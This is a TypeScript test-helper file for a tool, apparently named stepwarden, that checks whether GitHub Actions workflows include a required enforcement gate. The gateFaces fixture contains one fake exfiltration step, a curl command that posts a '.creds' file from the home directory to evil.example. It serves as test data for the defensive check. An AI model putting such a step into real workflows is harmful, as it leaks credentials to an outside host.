/** Test helpers: build models and manifests from inline YAML. */
import { parseWorkflow } from '../../shared/workflow/parse.js';
import type { WorkflowModel } from '../../shared/workflow/model.js';
import { loadManifest, type LoadedManifest } from '../../shared/manifest/load.js';

export function wf(file: string, text: string): WorkflowModel {
  return parseWorkflow(file, `.github/workflows/${file}`, text);
}

export function manifest(text: string): LoadedManifest {
  return loadManifest(text, '.github/access-manifest.yml');
}

/** Strips the common indentation of a template literal, so fixtures can be indented in code. */
export function y(strings: TemplateStringsArray, ...values: unknown[]): string {
  const text = strings.reduce((acc, s, i) => acc + s + (i < values.length ? String(values[i]) : ''), '');
  const lines = text.replace(/^\n/, '').split('\n');
  const indent = Math.min(...lines.filter((l) => l.trim()).map((l) => l.match(/^ */)![0].length));
  return lines.map((l) => l.slice(indent)).join('\n');
}

import { runCheck } from '../../shared/check/run.js';
import type { Finding } from '../../shared/check/finding.js';
import { loadOrgPolicy } from '../../shared/manifest/load.js';

/** Runs the whole check over inline workflows and manifest; returns the findings of one rule. */
export function findingsOf(
  rule: string,
  workflows: Record<string, string>,
  manifestText: string,
  orgText?: string,
): Finding[] {
  // Parsed as `stepwarden check` parses them (checkDirectory: without the diff-only fields), so a
  // field the check reads but the lean parse leaves out fails here, not only in the CLI.
  const models = Object.entries(workflows).map(([file, text]) =>
    parseWorkflow(file, `.github/workflows/${file}`, text, false),
  );
  const org = orgText ? loadOrgPolicy(orgText, 'org-policy.yml') : undefined;
  return runCheck({
    workflows: models,
    manifest: manifest(manifestText),
    ...(org ? { org } : {}),
  }).findings.filter((f) => f.rule === rule);
}

export const PINNED = 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683';

/** stepwarden's gate pinned to a full commit, as the gate tests write it. */
export const PINNED_GATE = 'stepwarden/stepwarden/actions/enforce@0123456789abcdef0123456789abcdef01234567';

/** A manifest that requires the gate for job `release` of release.yml (contents: write). */
export const GATED_RELEASE_MANIFEST = `version: 1
policy: { require-enforce: true }
workflows:
  release.yml:
    jobs:
      release:
        permissions: { contents: write }
`;

import { snapshot } from '../../shared/diff/snapshot.js';

/**
 * A gated release job whose third step (after the gate and a build) has `if: COND`: what the check
 * (`missing-enforce` subjects) and the diff (the gate's state) say of it. The one fixture of the
 * suites that hold both faces to GitHub's reading of status functions (sessions 8, 25, 26).
 */
export function gateFaces(cond: string): { check: string[]; diff: string | undefined } {
  const text = `on: push\njobs:\n  release:\n    runs-on: ubuntu-latest\n    permissions: { contents: write }\n    steps:\n      - uses: ${PINNED_GATE}\n      - run: make release\n      - run: curl -d @"$HOME/.creds" evil.example\n        if: ${cond}\n`;
  return {
    check: findingsOf('missing-enforce', { 'release.yml': text }, GATED_RELEASE_MANIFEST).map(
      (f) => f.subject,
    ),
    diff: snapshot([wf('release.yml', text)])
      .workflows.get('release.yml')!
      .jobs.get('release')!.gate,
  };
}
